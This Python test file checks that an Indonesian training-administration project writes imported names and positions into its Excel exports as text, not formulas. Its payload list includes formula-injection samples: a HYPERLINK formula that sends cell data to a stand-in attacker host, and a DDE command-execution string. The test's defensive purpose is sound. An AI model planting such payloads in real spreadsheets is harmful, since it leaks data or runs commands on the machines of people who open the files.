"""Every Excel file the project writes stores text as text, never as a formula: names and
positions beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return are imported
from an export file, then the participant list (demo), the register export and the
quarantine export are written and every cell of every file is read back."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session
from test_siasn_export_reader import NIPS, base_row, write_export

from diklat.excel import Kolom, tulis

PAYLOADS = [
    '=HYPERLINK("http://penyerang.example/?d="&B2,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # protected by its apostrophe: the importer must keep it
]


def cells(path: Path) -> list[Any]:
    """Every cell of every sheet, after checking the file's XML holds no formula."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, f"{path.name}: formula in {name}"
    wb = load_workbook(path)
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (path.name, c.coordinate, c.value)
                out.append(c)
    return out


def test_writer_keeps_text_as_text_and_types_numbers_and_dates(tmp_path: Path) -> None:
    rows = [
        {"nip": NIPS[0], "nama": p, "n": i, "t": dt.date(2026, 1, 2 + i)}
        for i, p in enumerate(PAYLOADS)
    ]
    out = tmp_path / "uji.xlsx"
    kolom = [
        Kolom("NIP", "nip", 21),
        Kolom("Nama", "nama", 30),
        Kolom("No", "n", 5, "angka"),
        Kolom("Tanggal", "t", 12, "tanggal"),
    ]
    assert tulis(out, "Uji", kolom, rows) == len(PAYLOADS)
    all_cells = cells(out)
    by_coord = {c.coordinate: c for c in all_cells}
    assert [by_coord[f"{x}1"].value for x in "ABCD"] == ["NIP", "Nama", "No", "Tanggal"]
    for i, p in enumerate(PAYLOADS, start=2):
        assert by_coord[f"B{i}"].value == p and by_coord[f"B{i}"].data_type == "s"
        assert by_coord[f"A{i}"].value == NIPS[0]  # an 18-digit NIP stays text, all digits
        assert by_coord[f"C{i}"].data_type == "n"
        assert by_coord[f"D{i}"].value.date() == dt.date(2026, 1, i)
        if p[0] in "=+-@\t\r":  # Excel keeps them text even when edited
            assert by_coord[f"B{i}"].quotePrefix
    ws = load_workbook(out).active
    assert ws is not None and ws.freeze_panes == "A2" and ws.title == "Uji"
    assert ws.column_dimensions["B"].width == 30


def _import_payloads(engine: Engine, tmp_path: Path) -> None:
    from diklat.pegawai.siasn_export import import_export

    rows = [
        base_row(n, nama=p, jabatan_nama=p)
        for n, p in zip(
            [
                "198501012010012001",
                "199002022015031002",
                "197805022005021003",
                "199103032016041003",
                "199204042017051004",
                "199305052018061005",
                "199406062019071006",
                "199507072020081007",
            ],
            PAYLOADS,
            strict=True,
        )
    ]
    rows.append(base_row(NIPS[2], nip_baru="=1+1"))  # quarantined with "=1+1" as its key
    path = tmp_path / "payload.csv"
    write_export(path, rows)
    res = import_export(engine, path)
    assert res.inserted == len(PAYLOADS) and res.quarantined == 1


def test_formula_payloads_never_become_formulas_in_any_excel_file(
    engine: Engine, tmp_path: Path
) -> None:
    import pandas as pd

    from cli.demo import daftar_peserta_excel
    from diklat.kegiatan.data import peserta_frame, tetapkan_peserta
    from diklat.models import Pegawai, RegisterEntry
    from diklat.mulai import simpan_kegiatan
    from diklat.naskah.register import export_excel
    from diklat.pegawai import operasi
    from tests.sop_support import LENGKAP, siap

    _import_payloads(engine, tmp_path)
    siap(engine)
    with Session(engine) as s, s.begin():
        names = {p.nama for p in s.execute(select(Pegawai)).scalars()}
        # Blanks around a value are trimmed; "'=1+1" keeps its apostrophe on the way in.
        assert names == {p.strip() for p in PAYLOADS}
        k = simpan_kegiatan(
            s,
            {
                "kode": "PK-2026-009",
                "sop": "peningkatan-kapasitas",
                "nama": "Uji",
                "mulai": "2026-03-02",
                "selesai": "2026-03-03",
                **LENGKAP,
            },
        )
        tetapkan_peserta(s, k, [p.id for p in s.execute(select(Pegawai)).scalars()])
        for i, p in enumerate(PAYLOADS, start=1):
            s.add(
                RegisterEntry(
                    unit="BKPSDM",
                    tahun=2026,
                    urut=i,
                    klasifikasi="800.2.4.2",
                    nomor=f"800.2.4.2/{i:03d}/BKPSDM/2026",
                    tanggal=dt.date(2026, 3, i),
                    hal=p,
                    tujuan=p,
                    status="aktif",
                )
            )
        kegiatan_id = k.id
    files = {
        "peserta": tmp_path / "daftar-peserta.xlsx",
        "register": tmp_path / "reg.xlsx",
        "karantina": tmp_path / "karantina.xlsx",
    }
    df = peserta_frame(engine, kegiatan_id)
    assert isinstance(df, pd.DataFrame)
    assert daftar_peserta_excel(files["peserta"], df) == len(PAYLOADS)
    with Session(engine) as s:
        assert export_excel(s, files["register"], 2026) == len(PAYLOADS)
    assert operasi.karantina_excel(files["karantina"], operasi.karantina(engine)) == 1

    seen: dict[str, set[Any]] = {}
    for what, path in files.items():
        seen[what] = {c.value for c in cells(path)}
    for p in PAYLOADS:
        assert any(p.strip() in str(v) for v in seen["peserta"]), p  # nama and jabatan
        assert p in seen["register"]  # verbatim
    assert "=1+1" in seen["karantina"]
    # The participant list looks like the register export: Indonesian headings, no ids.
    head = [c.value for c in load_workbook(files["peserta"]).active[1]]  # type: ignore[index]
    assert head[:3] == ["No", "NIP", "Nama"] and not any("_id" in str(h) for h in head)
    reg_head = [c.value for c in load_workbook(files["register"]).active[1]]  # type: ignore[index]
    assert "ID Naskah" not in reg_head and reg_head[:2] == ["No. Urut", "Nomor Surat"]


@pytest.mark.parametrize(
    ("cell", "identifier", "expected"),
    [
        ("'197805022005021003", False, "197805022005021003"),  # the export's text marker
        ("'+62 812-3456", False, "+62 812-3456"),
        ("'=1+1", False, "'=1+1"),  # protection, not a marker: kept
        ("'=1+1", True, "'=1+1"),  # even in an identifier column
        ("'@SUM(A1)", True, "'@SUM(A1)"),
        ("'A5EB03E23C7CF6A0E040640A040252AD", True, "A5EB03E23C7CF6A0E040640A040252AD"),
        ("'Ain", False, "'Ain"),
    ],
)
def test_apostrophe_removed_only_as_the_exports_text_marker(
    cell: str, identifier: bool, expected: str
) -> None:
    from diklat.pegawai.siasn_export import clean_cell

    assert clean_cell(cell, identifier) == expected
